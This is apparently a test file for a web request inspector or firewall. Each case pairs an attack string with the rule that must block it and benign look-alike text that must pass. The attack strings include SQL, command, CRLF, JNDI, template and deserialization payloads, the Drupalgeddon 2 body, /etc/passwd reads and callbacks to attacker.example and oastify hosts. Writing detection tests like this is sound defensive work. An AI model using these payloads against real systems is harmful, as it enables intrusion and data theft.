import { describe, expect, it } from 'vitest';
import { createInspector, type InspectRequest } from '../index.js';
import { jsonRequest, queryRequest, ruleIds } from '../testing/requests.js';

/**
 * Blind spots and false alarms a probe set written apart from the engine's corpora found (session 5): each attack
 * with the rule that must now fire, and the benign text next to it that must still pass.
 */
const pl2 = createInspector({ paranoia: 2 });
const pl1 = createInspector({ paranoia: 1 });
const q = (v: string) => ruleIds(pl2, queryRequest(v));
const passes = (req: InspectRequest, inspector = pl2) => inspector.inspect(req).blocked === false;

describe('sqli: a line comment as the blank between UNION and SELECT', () => {
  it('reads UNION--\\nSELECT and union#x\\nselect (sqlmap space2dash, space2hash)', () => {
    expect(q('1--\nUNION--\nSELECT--\n1,2')).toContain('sqli.union-select');
    expect(q('-1 union#foo\nselect 1,2,3')).toContain('sqli.union-select');
    expect(passes(queryRequest('The union -- as I said\nselected its leaders'))).toBe(true);
  });
});

describe('crlf: a header then a blank line and a body', () => {
  it('in a URL value, whatever follows', () => {
    expect(q('/home\r\nSet-Cookie: a=b\r\n\r\nhello')).toContain('crlf.header-injection');
    expect(q('x\r\nLocation: http://evil.example\r\n\r\nhello')).toContain('crlf.header-injection');
  });

  it('in a body field that holds one line (a subject), not in a message body', () => {
    expect(ruleIds(pl2, jsonRequest('subject', 'Hi\r\nBcc: victim@example.com\r\n\r\nbuy now'))).toContain('mail.header-injection');
    const forwarded = '---------- Forwarded message ---------\nFrom: Billing <billing@vendor.example>\nDate: Mon, 2 Nov\nSubject: Invoice\nTo: me@example.com\n\nPlease find the invoice attached.';
    expect(passes(jsonRequest('text', forwarded))).toBe(true);
  });
});

describe('Authorization: Basic', () => {
  const basic = (credentials: string): InspectRequest => ({ method: 'GET', path: '/me', query: '', headers: { host: 'h', authorization: `Basic ${Buffer.from(credentials).toString('base64')}` } });

  it('the user name is read like a form field', () => {
    expect(ruleIds(pl2, basic("admin' or true--:whatever"))).toContain('sqli.tautology');
    expect(pl2.inspect(basic("x' UNION SELECT 1,2-- -:p")).findings.every((f) => f.location === 'header:authorization')).toBe(true);
  });

  it('the password is not read: it may hold any character', () => {
    expect(passes(basic("alice:p'--or 1=1 \" <script>"))).toBe(true);
    expect(passes(basic("O'Brien:secret"))).toBe(true);
  });
});

describe('cmdi: forms a shell or cmd.exe undoes', () => {
  it.each([
    ['cmdi.shell-expansion', 'x;${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd'],
    ['cmdi.chained-command', 'x|| (id)'],
    ['cmdi.obfuscated-word', '127.0.0.1 & p^o^w^e^r^s^h^e^l^l -c whoami'],
    ['cmdi.obfuscated-word', 'w^h^o^a^m^i'],
    ['cmdi.windows', 'x&set x=who&&set y=ami&&call %x%%y%'],
  ])('%s: %s', (rule, v) => {
    expect(q(v)).toContain(rule);
  });

  it.each(['Q&A (who)', 'salt & (pepper)', 'x^2 + y^2 = r^2', 'e=mc^2', 'Please call %name% at %phone%'])('passes %s', (v) => {
    expect(passes(queryRequest(v))).toBe(true);
  });
});

describe('ssrf: a rebinding service name carrying addresses in hex', () => {
  it('7f000001.a9fea9fe.rbndr.us is loopback, then the metadata address', () => {
    expect(q('http://7f000001.a9fea9fe.rbndr.us/latest/meta-data/')).toContain('ssrf.internal-host');
    expect(passes(queryRequest('https://deadbeef.cafebabe.example.com/x'))).toBe(true);
  });
});

describe('ESI, Drupal render arrays, Razor', () => {
  it('an Edge Side Includes tag', () => {
    expect(ruleIds(pl2, jsonRequest('html', '<p>Hi</p><esi:include src="http://attacker.example/x.html"/>'))).toContain('ssi.esi-tag');
    expect(q('<esi:vars>$(HTTP_COOKIE{PHPSESSID})</esi:vars>')).toContain('ssi.esi-tag');
    expect(passes(queryRequest('Tesla <3 vesi'))).toBe(true);
  });

  it('a #post_render property in a form name (Drupalgeddon 2)', () => {
    const body = 'mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id&form_id=user_register_form';
    const req: InspectRequest = { method: 'POST', path: '/user/register', query: 'element_parents=account/mail/%23value&ajax_form=1', headers: { host: 'h', 'content-type': 'application/x-www-form-urlencoded' }, body };
    expect(ruleIds(pl2, req)).toContain('php.render-callback');
    expect(passes({ ...req, body: 'mail=a%40example.com&tags[#1]=x&form_id=user_register_form' })).toBe(true);
  });

  it('a Razor expression on a .NET namespace, not an address at system.io', () => {
    expect(q('@System.Diagnostics.Process.Start("cmd.exe","/c whoami")')).toContain('ssti.object-traversal');
    expect(passes(queryRequest('mail me at admin@System.IO.com'))).toBe(true);
  });
});

describe('xss: a markdown link target', () => {
  it('[a](javascript:...) is a script URL at paranoia 1; other links pass', () => {
    expect(ruleIds(pl1, queryRequest('[a](javascript:alert(document.domain))'))).toContain('xss.script-url');
    expect(ruleIds(pl1, queryRequest('see [docs](https://example.com/a_(b)) and [x](  JaVaScRiPt:alert(1))'))).toContain('xss.script-url');
    expect(passes(queryRequest('[link](https://example.com) and [mail](mailto:a@example.com)'), pl1)).toBe(true);
  });
});

describe('false alarms on developer and API content', () => {
  it('a JSONLogic rule: an operator as a JSON member name', () => {
    const body = JSON.stringify({ rules: [{ if: { and: [{ '==': [{ var: 'country' }, 'DE'] }, { '>=': [{ var: 'app_version' }, '5.2.0'] }] }, then: true }] });
    expect(passes({ method: 'PUT', path: '/flags/x', query: '', headers: { host: 'h', 'content-type': 'application/json' }, body })).toBe(true);
  });

  it("OData's $search option, while q[$search] stays a MongoDB operator", () => {
    expect(passes({ method: 'GET', path: '/odata/Customers', query: '$search=%22union%20station%22%20OR%20chicago&$top=5', headers: { host: 'h' } })).toBe(true);
    expect(ruleIds(pl2, { method: 'GET', path: '/users', query: 'q[$search]=x', headers: { host: 'h' } })).toContain('nosqli.operator-key');
  });

  it('child_process named in prose; reached in code', () => {
    expect(passes(queryRequest('When should I use child_process.exec versus spawn?'))).toBe(true);
    expect(q('global.process.mainModule.constructor._load("child_process").execSync("id")')).toContain('js.node-runtime');
    expect(q("x=child_process.exec('id')")).toContain('js.node-runtime');
  });

  it('a sensitive path in a sentence scores less than one alone', () => {
    expect(q('On Ubuntu I checked /etc/sudoers with visudo and the timeout is zero')).toEqual(['traversal.sensitive-file-in-text']);
    // A system directory (logs, service configs) named in a sentence is nothing at all (session 6).
    expect(q('The file is at /var/log/nginx/access.log on my machine')).toEqual([]);
    expect(q('The file is at /home/me/app/.env.example on my machine')).toEqual([]);
    for (const v of ['/etc/sudoers', '../../etc/passwd in the file', 'dd if=/etc/passwd of=/tmp/evil.sh bs=1 skip=22 count=9']) {
      expect(q(v), v).toContain('traversal.sensitive-file');
    }
    // PHPMailer (CVE-2016-10033): sendmail options that write the message to a script the web server runs.
    expect(q('"attacker\\" -oQ/tmp/ -X/var/www/html/shell.php some"@example.com')).toContain('cmdi.argument-injection');
  });
});

describe('a SAML response posted by a browser (base64 XML)', () => {
  const form = (xml: string): InspectRequest => ({ method: 'POST', path: '/saml/acs', query: '', headers: { host: 'h', 'content-type': 'application/x-www-form-urlencoded' }, body: `SAMLResponse=${encodeURIComponent(Buffer.from(xml).toString('base64'))}&RelayState=%2Fdashboard` });

  it('passes with its own namespaces; an XHTML namespace or an event handler in it does not', () => {
    const saml = '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_8e8dc5f6" Version="2.0" Destination="https://sp.example.com/saml/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.com/metadata</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:Response>';
    expect(passes(form(saml))).toBe(true);
    expect(passes(form('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'))).toBe(false);
    expect(passes(form('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><img src=x onerror=alert(1)></samlp:Response>'))).toBe(false);
  });

  it('a namespace declaration in a plain form value is still markup the page did not expect', () => {
    expect(q('<oez xmlns="http://a.b/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">oez</oez>')).toContain('xss.active-element');
  });
});

describe('round 2: false alarms on e-commerce, health, CMS, mobile and template traffic', () => {
  const json = (field: string, v: unknown) => jsonRequest(field, v);

  it('a base64 JSON cursor is read member by member; an operator inside one still counts', () => {
    expect(passes({ method: 'GET', path: '/orders', query: 'cursor=eyJvZmZzZXQiOjIwfQ%3D%3D&limit=20', headers: { host: 'h' } })).toBe(true);
    const ne = Buffer.from('{"user":{"$ne":null}}').toString('base64');
    expect(ruleIds(pl2, { method: 'GET', path: '/login', query: `state=${encodeURIComponent(ne)}`, headers: { host: 'h' } })).toContain('nosqli.operator-key');
    const sql = Buffer.from(JSON.stringify({ id: "1' UNION SELECT password FROM users--" })).toString('base64');
    expect(pl2.inspect({ method: 'GET', path: '/x', query: `q=${encodeURIComponent(sql)}`, headers: { host: 'h' } }).findings.some((f) => f.location === 'query:q#base64:/id')).toBe(true);
  });

  it('an Android crash report names java.lang classes in its frames; a payload that calls them does not pass', () => {
    const trace = "java.lang.NullPointerException: Attempt to invoke virtual method 'int java.lang.String.length()' on a null object reference\n\tat com.example.app.MainActivity.onCreate(MainActivity.java:42)\n\tat java.lang.reflect.Method.invoke(Native Method)\n\tat java.lang.Thread.run(Thread.java:919)";
    expect(passes(json('stack', trace))).toBe(true);
    expect(passes(json('stack', `${trace}\n${'${T(java.lang.Runtime).getRuntime().exec("id")}'}`))).toBe(false);
    expect(ruleIds(pl2, json('x', 'java.lang.Integer'))).toContain('java.dangerous-class');
  });

  it("Strapi's filter syntax passes; a filter on a secret field or a $where does not", () => {
    const get = (k: string): InspectRequest => ({ method: 'GET', path: '/api/articles', query: `${encodeURIComponent(k)}=x`, headers: { host: 'h' } });
    expect(passes(get('filters[slug][$eq]'))).toBe(true);
    expect(passes(get('filters[$or][0][title][$containsi]'))).toBe(true);
    expect(ruleIds(pl2, get('filters[updatedBy][password][$startsWith]'))).toContain('nosqli.orm-secret-lookup');
    expect(ruleIds(pl2, get('filters[x][$where]'))).toContain('nosqli.operator-key');
  });

  it("FHIR's XHTML narrative div passes; a prefixed XHTML namespace on another element does not", () => {
    expect(passes(json('div', '<div xmlns="http://www.w3.org/1999/xhtml"><p>Blood pressure 120/80</p></div>'), pl1)).toBe(true);
    expect(ruleIds(pl2, json('x', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'))).toContain('xss.active-element');
  });

  it('Liquid and Jinja control flow passes; a constant-condition probe does not', () => {
    for (const v of ['{% if fulfillment.tracking_url %}Track it{% endif %}', '{% for line in invoice.lines %}{{ line.title }}{% endfor %}']) expect(passes(json('template', v)), v).toBe(true);
    expect(q('{% if True %}49{% endif %}')).toContain('ssti.directive');
  });

  it('a weak rule found in two fields counts once; two different weak rules still add up', () => {
    const two = JSON.stringify({ title_html: '<p>Spring sale</p>', body_html: '<p>Up to <b>50%</b> off</p>' });
    expect(pl2.inspect({ method: 'POST', path: '/pages', query: '', headers: { host: 'h', 'content-type': 'application/json' }, body: two }).score).toBe(3);
  });

  it('a printf format in a body is not a control character; one in a cookie is', () => {
    expect(passes(json('msg', 'Loaded %10s items in %08.2f ms, plural=(n%10==1)'))).toBe(true);
    expect(ruleIds(pl2, { method: 'GET', path: '/', query: '', headers: { host: 'h', cookie: 'hi%13=bye' } })).toContain('protocol.control-character');
  });

  it('"; if" in clinical text is not a stacked IF; ;IF(1=1) is', () => {
    expect(passes(json('dosage', 'Take 10 units before meals; if BG < 70 mg/dL hold dose'))).toBe(true);
    expect(q("1;IF(1=1) WAITFOR DELAY '0:0:5'--")).toContain('sqli.stacked-query');
  });
});

describe('round 2: blind spots in evasions', () => {
  it('a lookup in a header that is otherwise not read (Authorization, Accept-Language)', () => {
    for (const [name, value] of [['authorization', 'Bearer ${jndi:ldap://x7k2p9.oastify.com:1389/a}'], ['accept-language', 'en-US,${jndi:ldap://example.net/al}']] as const) {
      expect(ruleIds(pl2, { method: 'GET', path: '/', query: '', headers: { host: 'h', [name]: value } }), name).toContain('jndi.lookup');
    }
    expect(passes({ method: 'GET', path: '/', query: '', headers: { host: 'h', 'accept-language': 'en-US,en;q=0.9', authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.e30.x' } })).toBe(true);
  });

  it('Python pickles, YAML object tags and .NET gadget types', () => {
    const pickle4 = Buffer.concat([Buffer.from([0x80, 0x04, 0x95, 0x20, 0, 0, 0, 0, 0, 0, 0, 0x8c, 0x05]), Buffer.from('posix'), Buffer.from([0x94, 0x8c, 0x06]), Buffer.from('system'), Buffer.from([0x94, 0x93, 0x94, 0x8c, 0x02]), Buffer.from('id'), Buffer.from([0x94, 0x85, 0x94, 0x52, 0x94, 0x2e])]).toString('base64');
    expect(ruleIds(pl2, jsonRequest('model', pickle4))).toContain('deser.python-pickle');
    expect(ruleIds(pl2, { method: 'GET', path: '/', query: '', headers: { host: 'h', cookie: `session=${Buffer.from('cposix\nsystem\n(Vid\ntR.').toString('base64')}` } })).toContain('deser.python-pickle');
    expect(ruleIds(pl2, jsonRequest('config', '!!python/object/apply:os.system ["id"]'))).toContain('deser.yaml-object-tag');
    expect(ruleIds(pl2, jsonRequest('config', '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]'))).toContain('deser.yaml-object-tag');
    const dotnet = JSON.stringify({ __type: 'System.Windows.Data.ObjectDataProvider, PresentationFramework', MethodName: 'Start' });
    expect(ruleIds(pl2, { method: 'POST', path: '/x', query: '', headers: { host: 'h', 'content-type': 'application/json' }, body: dotnet })).toContain('deser.dotnet-gadget');
    for (const v of ['gAAAAABkx3hJ9mZ3', 'tags: !!str 123\nname: !!binary R0lGODlh', 'Use System.Text.Json or Newtonsoft', 'Great product!! Would buy again!!']) expect(passes(jsonRequest('x', v)), v).toBe(true);
  });

  it('UNION DISTINCTROW and MySQL 8 TABLE', () => {
    expect(q('-1 UNION DISTINCTROW SELECT 1,2,3-- -')).toContain('sqli.union-select');
    expect(q('-1 union table users')).toContain('sqli.union-select');
    expect(passes(queryRequest('the workers union table is full'))).toBe(true);
  });

  it('parameter pollution: repeated values are read joined with commas, as ASP.NET joins them', () => {
    const r = pl2.inspect({ method: 'GET', path: '/p', query: 'id=1/*&id=*/union/*&id=*/select/*&id=*/null,username,password/*&id=*/from/*&id=*/users--', headers: { host: 'h' } });
    expect(r.findings.map((f) => f.ruleId)).toContain('sqli.union-select');
    expect(passes({ method: 'GET', path: '/p', query: 'tag=red&tag=blue&tag=union&tag=select', headers: { host: 'h' } })).toBe(true);
  });

  it("a multipart filename*= (RFC 5987) is decoded and read like filename=", () => {
    const b = 'Xb';
    const body = `--${b}\r\nContent-Disposition: form-data; name="doc"; filename="a.pdf"; filename*=UTF-8''x%27%3Bselect%20pg_sleep(5)--.pdf\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\r\n--${b}--\r\n`;
    expect(ruleIds(pl2, { method: 'POST', path: '/upload', query: '', headers: { host: 'h', 'content-type': `multipart/form-data; boundary=${b}` }, body })).toContain('sqli.time-function');
  });

  it('path tricks: ..;/ (Tomcat) blocks; a segment ending in .. (nginx alias) adds weight', () => {
    expect(ruleIds(pl2, { method: 'GET', path: '/api/public/..;/manager/html', query: '', headers: { host: 'h' } })).toContain('traversal.dot-dot');
    expect(ruleIds(pl2, { method: 'GET', path: '/static../app/settings.py', query: '', headers: { host: 'h' } })).toContain('traversal.dot-dot-single');
  });

  it('command forms: argument injection, a cmd.exe substring, a delay after a line break', () => {
    expect(q('--upload-pack=touch /tmp/pwned')).toContain('cmdi.argument-injection');
    expect(q('host -oProxyCommand=curl x')).toContain('cmdi.argument-injection');
    expect(q('127.0.0.1&net%PROGRAMFILES:~10,-5%user')).toContain('cmdi.windows');
    expect(q('127.0.0.1\nsleep 10')).toContain('cmdi.chained-command');
    for (const v of ['Meeting at 10\nsleep 8 hours', 'git clone --depth 1 https://example.com/r.git', 'Use --receive-pack only on the server side']) expect(passes(queryRequest(v)), v).toBe(true);
  });
});
